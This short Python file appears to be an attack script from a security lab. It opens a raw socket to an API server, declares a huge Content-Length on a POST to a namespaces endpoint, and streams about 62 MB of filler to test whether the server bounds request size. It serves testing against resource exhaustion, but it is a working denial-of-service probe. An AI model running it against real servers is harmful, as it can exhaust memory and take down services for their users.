"""Tries to send a request that never ends.

Lab: 01
Earns: what the solution does, which goes on after it
May not touch: the grader's memory
"""

import socket


def attack(client):
    host, _, port = client.connection.server.rpartition("/")[2].partition(":")
    with socket.create_connection((host, int(port)), 5) as connection:
        try:
            connection.sendall(b"POST /api/v1/namespaces HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999\r\n\r\n")
            for _ in range(1000):
                connection.sendall(b"x" * 65536)
        except OSError:
            return
    print("GOT", "62 MB into one request")
